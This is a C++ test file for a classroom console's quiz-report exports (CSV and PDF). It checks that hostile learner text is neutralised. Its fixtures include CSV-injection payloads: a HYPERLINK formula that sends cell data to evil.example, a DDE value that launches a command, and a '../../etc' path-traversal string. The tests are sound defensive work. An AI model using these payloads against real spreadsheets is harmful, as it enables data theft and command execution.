// The exports of a session's quiz results, written and read back: the CSV files
// through a strict RFC 4180 reader, the PDF through pdftotext (poppler-utils).
// Learners are hostile, so the session is full of text that breaks naive
// CSV, spreadsheets and HTML.

#include "teacher-console/core/QuizReport.h"

#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <csignal>
#include <fstream>
#include <functional>
#include <iterator>
#include <sys/resource.h>

using namespace classroom;
using namespace classroom::console;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::UnorderedElementsAreArray;
namespace fs = std::filesystem;

namespace {

using Rows = std::vector<std::vector<std::string>>;

const std::string kHyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
const std::string kArabic = "\u0645\u0631\u062D\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645";  // "hello world"
const std::string kDde = "=cmd|' /C calc'!A0";

AnswerRow answer(std::string learner, std::string seat, int question, std::string response, std::optional<double> score)
{
    AnswerRow row;
    row.learner = std::move(learner);
    row.seatName = std::move(seat);
    row.quizId = 101;
    row.moduleTitle = "Fire safety, part 2";
    row.questionNumber = question;
    row.questionTitle = question == 1 ? "Capital of France" : "Fire exits";
    row.questionType = question == 1 ? "short answer" : "essay";
    row.response = std::move(response);
    row.score = score;
    row.answeredAt = "2026-11-23 10:42:07";
    row.receivedAt = "2026-11-23 10:42:08";
    return row;
}

AnswerRow selfPacedAnswer(std::string learner, std::string seat, std::string response, double score)
{
    AnswerRow row = answer(std::move(learner), std::move(seat), 3, std::move(response), score);
    row.quizId = 102;
    row.live = false;
    row.moduleTitle = "Basic \"Excel\" skills";
    row.questionTitle = "=1+1";
    row.questionType = "numerical";
    return row;
}

SessionReport hostileSession()
{
    SessionReport report;
    report.sessionId = 12;
    report.startedAt = "2026-11-23 09:00";
    report.trainer = "Ms \u00D6degaard";
    report.generatedAt = "2026-11-23 11:15";
    report.moduleTitles = {"Fire safety, part 2", "Basic \"Excel\" skills"};
    report.questions = {
        {1, "Capital of France", "What is the capital of France?", "short answer", "Paris", 3, 1, 0, 4.0 / 9.0,
         {{"Paris", 1}, {"Paris, France", 1}, {"He said \"Paris\"", 1}}},
        {2, "Fire exits", "Name two fire exits.\nSay why they matter.", "essay", "", 2, 0, 1, 0.5, {}},
        {3, "=1+1", "=1+1 is what?", "numerical", "2", 5, 1, 0, 1.0 / 3.0,
         {{"2", 1}, {"<b>3</b> & more", 2}, {kArabic, 0}}},
    };
    report.learners = {
        {"K-7", "PC 1", 3, 3, 0, 2.0, 3.0},
        {"Zo\u00EB", "PC 2", 3, 3, 0, 1.5, 3.0},
        {"\u0141ukasz", "PC 3", 3, 2, 1, 1.6667, 3.0},
        {"(seat PC 4)", kDde, 3, 1, 0, 0.6667, 3.0},
        {"Ann", "PC 5", 0, 0, 0, 0.0, 0.0},
    };
    AnswerRow late = answer("\u0141ukasz", "PC 3", 1, kHyperlink, 0.0);
    late.late = true;
    late.counts = false;
    AnswerRow graded = answer("Zo\u00EB", "PC 2", 2, "+44 20 7946 0000", 0.5);
    graded.gradedByTrainer = true;
    report.answers = {
        answer("Zo\u00EB", "PC 2", 1, "Paris, France", 1.0),
        answer("K-7", "PC 1", 1, "He said \"Paris\"", 1.0 / 3.0),
        late,
        answer("\u0141ukasz", "PC 3", 2, "line one\nline two\r\n" + kArabic, std::nullopt),
        graded,
        selfPacedAnswer("K-7", "PC 1", "-1", 0.0),
        selfPacedAnswer("(seat PC 4)", kDde, "@SUM(A1:A9)", 2.0 / 3.0),
        selfPacedAnswer("Zo\u00EB", "PC 2", "\tTabbed", 1.0),
        selfPacedAnswer("K-7", "PC 1", "\rCR first", 0.0),
        selfPacedAnswer("\u0141ukasz", "PC 3", "", 0.0),
    };
    return report;
}

// The hostile session and `extra` more learners, so the learners' table grows.
SessionReport withExtraLearners(int extra)
{
    SessionReport report = hostileSession();
    for (int i = 0; i < extra; ++i)
        report.learners.push_back({"L-" + std::to_string(1000 + i), "PC " + std::to_string(i), 3, 3, 0, 1.0, 3.0});
    return report;
}

std::string readFile(const fs::path& file)
{
    std::ifstream in(file, std::ios::binary);
    return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

// RFC 4180 as strictly as a spreadsheet should read it: every record ends with
// CRLF, a field is quoted when it holds a comma, quote, CR or LF, and quotes
// inside are doubled. Anything else is an error naming the byte offset.
struct Csv {
    Rows rows;
    std::string error;
};

Csv parseCsv(const std::string& text)
{
    Csv csv;
    std::vector<std::string> row;
    std::string field;
    std::size_t i = 0;
    const auto fail = [&](const std::string& what) {
        csv.error = what + " at byte " + std::to_string(i);
        return csv;
    };
    while (i < text.size()) {
        if (text[i] == '"') {
            for (++i;; ++i) {
                if (i >= text.size())
                    return fail("unterminated quoted field");
                if (text[i] == '"' && i + 1 < text.size() && text[i + 1] == '"')
                    field += text[++i];
                else if (text[i] == '"')
                    break;
                else
                    field += text[i];
            }
            ++i;
        } else {
            while (i < text.size() && text[i] != ',' && text[i] != '\r' && text[i] != '\n') {
                if (text[i] == '"')
                    return fail("quote inside an unquoted field");
                field += text[i++];
            }
        }
        row.push_back(std::move(field));
        field.clear();
        if (i < text.size() && text[i] == ',') {
            ++i;
            continue;
        }
        if (text.compare(i, 2, "\r\n") != 0)
            return fail("record not ended by CRLF");
        i += 2;
        csv.rows.push_back(std::move(row));
        row.clear();
    }
    return csv;
}

Csv readCsv(const fs::path& file)
{
    const std::string text = readFile(file);
    const std::string bom = "\xEF\xBB\xBF";
    if (text.compare(0, bom.size(), bom) != 0)
        return {{}, "no UTF-8 byte order mark"};
    return parseCsv(text.substr(bom.size()));
}

// The text of a PDF, or nullopt when pdftotext is not installed.
std::optional<QString> pdfText(const fs::path& file)
{
    const QString pdftotext = QStandardPaths::findExecutable(QStringLiteral("pdftotext"));
    if (pdftotext.isEmpty())
        return std::nullopt;
    QProcess process;
    process.start(pdftotext, {QStringLiteral("-layout"), QString::fromStdString(file.string()), QStringLiteral("-")});
    if (!process.waitForFinished(30000) || process.exitCode() != 0)
        return QStringLiteral("pdftotext failed: ") + QString::fromLocal8Bit(process.readAllStandardError());
    return QString::fromUtf8(process.readAllStandardOutput());
}

constexpr const char* kNoPdfToText = "pdftotext is not installed; install poppler-utils to check the PDF's text";

// "Page 1 of 3" ... "Page 3 of 3": the page count the footers agree on, or 0.
int footerPageCount(const QString& text)
{
    const QRegularExpression footer(QStringLiteral("Page (\\d+) of (\\d+)"));
    int pages = 0;
    int expected = 1;
    for (auto match = footer.globalMatch(text); match.hasNext(); ++expected) {
        const auto found = match.next();
        if (found.captured(1).toInt() != expected || (pages != 0 && found.captured(2).toInt() != pages))
            return 0;
        pages = found.captured(2).toInt();
    }
    return expected - 1 == pages ? pages : 0;
}

std::vector<std::string> fileNames(const fs::path& folder)
{
    std::vector<std::string> names;
    for (const auto& entry : fs::directory_iterator(folder))
        names.push_back(entry.path().filename().string());
    return names;
}

struct Export {
    const char* name;
    std::function<Result<void>(const SessionReport&, const fs::path&)> write;
};

const Export kExports[] = {
    {"answers.csv", writeAnswersCsv},
    {"learners.csv", writeLearnersCsv},
    {"report.pdf", writeReportPdf},
};

}  // namespace

TEST(QuizReport, AnswersCsvRoundTripsHostileTextWithFormulasDefused)
{
    QTemporaryDir dir;
    const fs::path file = fs::path(dir.path().toStdString()) / "answers.csv";
    auto written = writeAnswersCsv(hostileSession(), file);
    ASSERT_TRUE(written.ok()) << written.error();

    const Csv csv = readCsv(file);
    ASSERT_THAT(csv.error, IsEmpty());
    const std::string fire = "Fire safety, part 2";
    const std::string excel = "Basic \"Excel\" skills";
    const std::string at1 = "2026-11-23 10:42:07";
    const std::string at2 = "2026-11-23 10:42:08";
    const Rows expected = {
        {"Session", "Learner", "Seat", "Quiz", "Mode", "Module", "Question number", "Question", "Type", "Answer",
         "Score (%)", "Graded by trainer", "Late", "Counts", "Answered at", "Received at"},
        {"12", "Zo\u00EB", "PC 2", "101", "live", fire, "1", "Capital of France", "short answer", "Paris, France",
         "100", "no", "no", "yes", at1, at2},
        {"12", "K-7", "PC 1", "101", "live", fire, "1", "Capital of France", "short answer", "He said \"Paris\"",
         "33.3", "no", "no", "yes", at1, at2},
        {"12", "\u0141ukasz", "PC 3", "101", "live", fire, "1", "Capital of France", "short answer", "'" + kHyperlink,
         "0", "no", "yes", "no", at1, at2},
        {"12", "\u0141ukasz", "PC 3", "101", "live", fire, "2", "Fire exits", "essay",
         "line one\nline two\r\n" + kArabic, "", "no", "no", "yes", at1, at2},
        {"12", "Zo\u00EB", "PC 2", "101", "live", fire, "2", "Fire exits", "essay", "'+44 20 7946 0000", "50", "yes",
         "no", "yes", at1, at2},
        {"12", "K-7", "PC 1", "102", "self-paced", excel, "3", "'=1+1", "numerical", "'-1", "0", "no", "no", "yes",
         at1, at2},
        {"12", "(seat PC 4)", "'" + kDde, "102", "self-paced", excel, "3", "'=1+1", "numerical", "'@SUM(A1:A9)",
         "66.7", "no", "no", "yes", at1, at2},
        {"12", "Zo\u00EB", "PC 2", "102", "self-paced", excel, "3", "'=1+1", "numerical", "'\tTabbed", "100", "no",
         "no", "yes", at1, at2},
        {"12", "K-7", "PC 1", "102", "self-paced", excel, "3", "'=1+1", "numerical", "'\rCR first", "0", "no", "no",
         "yes", at1, at2},
        {"12", "\u0141ukasz", "PC 3", "102", "self-paced", excel, "3", "'=1+1", "numerical", "", "0", "no", "no",
         "yes", at1, at2},
    };
    ASSERT_EQ(csv.rows.size(), expected.size());
    for (std::size_t i = 0; i < expected.size(); ++i)
        EXPECT_EQ(csv.rows[i], expected[i]) << "row " << i;
}

TEST(QuizReport, LearnersCsvHasEachLearnersTotals)
{
    QTemporaryDir dir;
    const fs::path file = fs::path(dir.path().toStdString()) / "learners.csv";
    auto written = writeLearnersCsv(hostileSession(), file);
    ASSERT_TRUE(written.ok()) << written.error();

    const Csv csv = readCsv(file);
    ASSERT_THAT(csv.error, IsEmpty());
    const Rows expected = {
        {"Session", "Learner", "Seat", "Questions asked", "Answered", "Awaiting grading", "Points", "Out of",
         "Percent"},
        {"12", "K-7", "PC 1", "3", "3", "0", "2", "3", "66.7"},
        {"12", "Zo\u00EB", "PC 2", "3", "3", "0", "1.5", "3", "50"},
        {"12", "\u0141ukasz", "PC 3", "3", "2", "1", "1.67", "3", "55.6"},
        {"12", "(seat PC 4)", "'" + kDde, "3", "1", "0", "0.67", "3", "22.2"},
        {"12", "Ann", "PC 5", "0", "0", "0", "0", "0", ""},
    };
    EXPECT_EQ(csv.rows, expected);
}

TEST(QuizReport, AnEmptySessionGivesHeaderOnlyCsvFilesAndAOnePageReport)
{
    QTemporaryDir dir;
    const fs::path folder = dir.path().toStdString();
    SessionReport empty;
    empty.sessionId = 3;
    for (const Export& exported : kExports) {
        auto written = exported.write(empty, folder / exported.name);
        ASSERT_TRUE(written.ok()) << written.error();
    }
    EXPECT_EQ(readCsv(folder / "answers.csv").rows.size(), 1u);
    EXPECT_EQ(readCsv(folder / "learners.csv").rows.size(), 1u);

    const auto text = pdfText(folder / "report.pdf");
    if (!text)
        GTEST_SKIP() << kNoPdfToText;
    EXPECT_THAT(text->toStdString(), HasSubstr("No questions were asked in this session."));
    EXPECT_EQ(footerPageCount(*text), 1) << text->toStdString();
}

TEST(QuizReport, PdfReportShowsTheSessionItsLearnersAndQuestionsWithPageNumbers)
{
    QTemporaryDir dir;
    const fs::path file = fs::path(dir.path().toStdString()) / "report.pdf";
    auto written = writeReportPdf(hostileSession(), file);
    ASSERT_TRUE(written.ok()) << written.error();
    ASSERT_EQ(readFile(file).substr(0, 5), "%PDF-");

    const auto text = pdfText(file);
    if (!text)
        GTEST_SKIP() << kNoPdfToText;
    const std::string plain = text->toStdString();
    EXPECT_THAT(plain, HasSubstr("Session report"));
    EXPECT_TRUE(text->contains(QRegularExpression(QStringLiteral("Session\\s+12\\b")))) << plain;
    for (const char* learner : {"K-7", "Zo\u00EB", "\u0141ukasz", "(seat PC 4)", "Ann"})
        EXPECT_THAT(plain, HasSubstr(learner));
    EXPECT_THAT(plain, HasSubstr("Capital of France"));
    EXPECT_THAT(plain, HasSubstr("Ms \u00D6degaard"));
    // Learner text is printed as written, never read as HTML.
    EXPECT_THAT(plain, HasSubstr("<b>3</b> & more"));
    EXPECT_THAT(plain, HasSubstr("Page 1 of"));
    EXPECT_GE(footerPageCount(*text), 1) << plain;
}

TEST(QuizReport, ALongSessionSpreadsOverNumberedPages)
{
    QTemporaryDir dir;
    const fs::path file = fs::path(dir.path().toStdString()) / "report.pdf";
    auto written = writeReportPdf(withExtraLearners(120), file);
    ASSERT_TRUE(written.ok()) << written.error();

    const auto text = pdfText(file);
    if (!text)
        GTEST_SKIP() << kNoPdfToText;
    EXPECT_GE(footerPageCount(*text), 3) << text->toStdString();
    EXPECT_THAT(text->toStdString(), HasSubstr("L-1119"));
}

// Left to itself QTextDocument ends a page with a heading whose table starts
// the next. Each extra learner moves the later headings down the page a little.
TEST(QuizReport, NoHeadingIsLeftAtTheFootOfAPage)
{
    if (QStandardPaths::findExecutable(QStringLiteral("pdftotext")).isEmpty())
        GTEST_SKIP() << kNoPdfToText;
    const QRegularExpression heading(
        QStringLiteral("^(Questions|Learners|How the questions were answered|Question \\d+: .*)$"));
    QTemporaryDir dir;
    for (int extra = 0; extra <= 20; ++extra) {
        const fs::path file = fs::path(dir.path().toStdString()) / ("report-" + std::to_string(extra) + ".pdf");
        auto written = writeReportPdf(withExtraLearners(extra), file);
        ASSERT_TRUE(written.ok()) << written.error();
        const auto text = pdfText(file);
        ASSERT_TRUE(text);
        const QStringList pages = text->split(QLatin1Char('\f'), Qt::SkipEmptyParts);
        for (qsizetype page = 0; page < pages.size(); ++page) {
            QStringList lines;
            for (const QString& line : pages[page].split(QLatin1Char('\n')))
                if (!line.trimmed().isEmpty())
                    lines << line.trimmed();
            ASSERT_GE(lines.size(), 2) << "page " << page + 1;
            ASSERT_THAT(lines.last().toStdString(), HasSubstr("Page ")) << "the footer ends each page";
            const QString lastText = lines[lines.size() - 2];
            EXPECT_FALSE(heading.match(lastText).hasMatch())
                << "with " << extra << " extra learners page " << page + 1 << " ends with " << lastText.toStdString();
        }
    }
}

TEST(QuizReport, ExportsIntoAMissingFolderFailNamingTheFileAndCreateNothing)
{
    QTemporaryDir dir;
    const fs::path missing = fs::path(dir.path().toStdString()) / "no such folder";
    for (const Export& exported : kExports) {
        const fs::path file = missing / exported.name;
        auto written = exported.write(hostileSession(), file);
        ASSERT_FALSE(written.ok()) << exported.name;
        EXPECT_THAT(written.error(), HasSubstr(file.string()));
        EXPECT_FALSE(fs::exists(missing));
    }
}

TEST(QuizReport, ExportsIntoAReadOnlyFolderFailNamingTheFileAndLeaveItUntouched)
{
    QTemporaryDir dir;
    const fs::path folder = dir.path().toStdString();
    for (const Export& exported : kExports)
        std::ofstream(folder / exported.name) << "the good old file";
    fs::permissions(folder, fs::perms::owner_read | fs::perms::owner_exec);
    const bool folderWritable = std::ofstream(folder / "probe").good();
    if (folderWritable) {
        fs::remove(folder / "probe");
        fs::permissions(folder, fs::perms::owner_all);
        GTEST_SKIP() << "running as root: a read-only folder is writable anyway";
    }
    for (const Export& exported : kExports) {
        auto written = exported.write(hostileSession(), folder / exported.name);
        ASSERT_FALSE(written.ok()) << exported.name;
        EXPECT_THAT(written.error(), HasSubstr((folder / exported.name).string()));
        EXPECT_EQ(readFile(folder / exported.name), "the good old file");
    }
    EXPECT_THAT(fileNames(folder), UnorderedElementsAreArray({"answers.csv", "learners.csv", "report.pdf"}));
    fs::permissions(folder, fs::perms::owner_all);
}

// The disk refusing in the middle of a write (full, or over quota) must not
// cost the trainer the file saved before. RLIMIT_FSIZE makes writes past a few
// bytes fail, even for root.
TEST(QuizReport, ADiskThatRefusesMidwayKeepsThePreviousFile)
{
    QTemporaryDir dir;
    const fs::path folder = dir.path().toStdString();
    for (const Export& exported : kExports)
        std::ofstream(folder / exported.name) << "the good old file";

    rlimit saved{};
    ASSERT_EQ(::getrlimit(RLIMIT_FSIZE, &saved), 0);
    const auto oldHandler = std::signal(SIGXFSZ, SIG_IGN);
    rlimit tiny = saved;
    tiny.rlim_cur = 64;
    ASSERT_EQ(::setrlimit(RLIMIT_FSIZE, &tiny), 0);
    std::vector<Result<void>> results;
    for (const Export& exported : kExports)
        results.push_back(exported.write(hostileSession(), folder / exported.name));
    ::setrlimit(RLIMIT_FSIZE, &saved);
    std::signal(SIGXFSZ, oldHandler);

    for (std::size_t i = 0; i < results.size(); ++i) {
        const fs::path file = folder / kExports[i].name;
        ASSERT_FALSE(results[i].ok()) << file;
        EXPECT_THAT(results[i].error(), HasSubstr(file.string()));
        EXPECT_EQ(readFile(file), "the good old file");
    }
    EXPECT_THAT(fileNames(folder), UnorderedElementsAreArray({"answers.csv", "learners.csv", "report.pdf"}));
}

TEST(QuizReport, ExportsAreForTheTrainersEyesOnly)
{
    QTemporaryDir dir;
    const fs::path folder = dir.path().toStdString();
    for (const Export& exported : kExports) {
        auto written = exported.write(hostileSession(), folder / exported.name);
        ASSERT_TRUE(written.ok()) << written.error();
        EXPECT_EQ(fs::status(folder / exported.name).permissions(), fs::perms::owner_read | fs::perms::owner_write)
            << exported.name;
    }
}

TEST(QuizReport, FileBaseNameHasSessionNumberAndDate)
{
    SessionReport report;
    report.sessionId = 12;
    report.startedAt = "2026-11-23 09:00";
    EXPECT_EQ(reportFileBaseName(report), QStringLiteral("session-12-2026-11-23"));
    report.startedAt = "";
    EXPECT_EQ(reportFileBaseName(report), QStringLiteral("session-12"));
    report.startedAt = "../../etc 09:00";
    EXPECT_EQ(reportFileBaseName(report), QStringLiteral("session-12"));
}
